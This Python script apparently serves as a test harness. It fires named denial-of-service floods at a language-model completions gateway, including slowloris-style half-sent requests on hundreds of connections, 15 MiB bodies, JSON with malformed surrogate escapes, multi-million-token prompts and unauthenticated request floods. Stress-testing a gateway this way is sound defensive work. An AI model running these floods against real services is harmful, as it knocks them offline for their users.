"""Floods against a gateway, from a process of their own: `python attacks.py NAME URL KEY SECONDS`.

Each repeats itself until its time is up and ends with its connections.
"""

import asyncio
import contextlib
import json
import sys
import time
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

MIB = 1 << 20
Attack = Callable[["Target"], Awaitable[None]]


class Target:
    """Where, as whom, and until when."""

    def __init__(self, url: str, key: str, seconds: float) -> None:
        self.key = key
        self.ends_at = time.monotonic() + seconds
        self._address = urlsplit(url)

    @property
    def is_over(self) -> bool:
        return time.monotonic() > self.ends_at

    async def send(self, path: str, length: int, body: bytes, *, key: str | None) -> asyncio.StreamWriter:
        """Open a connection and send a request, or as much of one as it says."""
        reader, writer = await asyncio.open_connection(self._address.hostname, self._address.port)
        lines = [f"POST {path} HTTP/1.1", "host: x", "content-type: application/json"]
        lines += [f"content-length: {length}"] + ([f"authorization: Bearer {key}"] if key else [])
        writer.write("\r\n".join([*lines, "", ""]).encode() + body)
        writer.reader = reader  # type: ignore[attr-defined]
        return writer

    async def ask(self, path: str, body: bytes, *, key: str | None) -> None:
        """Send a request and wait for its answer."""
        writer = await self.send(path, len(body), body, key=key)
        try:
            async with asyncio.timeout(60):
                await writer.reader.readuntil(b"\r\n\r\n")  # type: ignore[attr-defined]
        finally:
            writer.transport.abort()

    async def hold(self, count: int, path: str, length: int, body: bytes, *, key: str | None) -> None:
        """Keep so many connections, each with the same beginning of a request, then silence."""

        async def one() -> None:
            while not self.is_over:
                try:
                    writer = await self.send(path, length, body, key=key)
                    await asyncio.wait_for(writer.drain(), 5)
                    async with asyncio.timeout_at(asyncio.get_running_loop().time() + 60):
                        while not self.is_over and await writer.reader.read(1 << 16):  # type: ignore[attr-defined]
                            pass
                except (OSError, TimeoutError):
                    await asyncio.sleep(0.2)
                finally:
                    await asyncio.sleep(0.2)
                    if "writer" in locals():
                        writer.transport.abort()

        tasks = [asyncio.create_task(one()) for _ in range(count)]
        await asyncio.sleep(self.ends_at - time.monotonic())
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    async def repeat(self, at_once: int, path: str, body: bytes, *, key: str | None) -> None:
        """Ask again and again."""

        async def one() -> None:
            while not self.is_over:
                with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
                    await self.ask(path, body, key=key)
                await asyncio.sleep(0.05)

        await asyncio.gather(*(one() for _ in range(at_once)))


async def half_large_bodies(target: Target) -> None:
    await target.hold(150, "/v1/completions", 16 * MIB, b" " * (15 * MIB), key=None)


async def half_large_bodies_of_a_key(target: Target) -> None:
    await target.hold(150, "/api/v1/asample", 16 * MIB, b" " * (15 * MIB), key=target.key)


async def surrogates(target: Target) -> None:
    body = b'{"model": "tiny", "prompt": "' + rb"\ud83d\ude00" * (15 * MIB // 12) + rb'\ud800"}'
    await target.repeat(8, "/v1/completions", body, key=target.key)


async def surrogates_within_the_bound(target: Target) -> None:
    body = b'{"model": "tiny", "prompt": "' + rb"\ud83d\ude00" * (3 * MIB // 12) + rb'\ud800"}'
    await target.repeat(8, "/v1/completions", body, key=target.key)


async def five_million_tokens(target: Target) -> None:
    body = json.dumps({"model": "tiny", "prompt": [1] * 5_000_000}).encode()
    await target.repeat(8, "/v1/completions", body, key=target.key)


async def a_million_tokens(target: Target) -> None:
    body = b'{"model":"tiny","prompt":[' + b"1," * 1_000_000 + b"1]}"
    await target.repeat(8, "/v1/completions", body, key=target.key)


async def half_bodies(target: Target) -> None:
    await target.hold(1000, "/v1/completions", 1000, b'{"model": ', key=target.key)


async def half_heads(target: Target) -> None:
    await target.hold(500, "/v1/completions HTTP/1.1\r\nx-half: ", 1, b"", key=None)


async def keyless_cold(target: Target) -> None:
    body = json.dumps({"model": "cold", "prompt": "x"}).encode()
    await target.repeat(100, "/v1/completions", body, key=None)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        half_large_bodies,
        half_large_bodies_of_a_key,
        surrogates,
        surrogates_within_the_bound,
        five_million_tokens,
        a_million_tokens,
        half_bodies,
        half_heads,
        keyless_cold,
    )
}

if __name__ == "__main__":
    asyncio.run(ATTACKS[sys.argv[1]](Target(sys.argv[2], sys.argv[3], float(sys.argv[4]))))
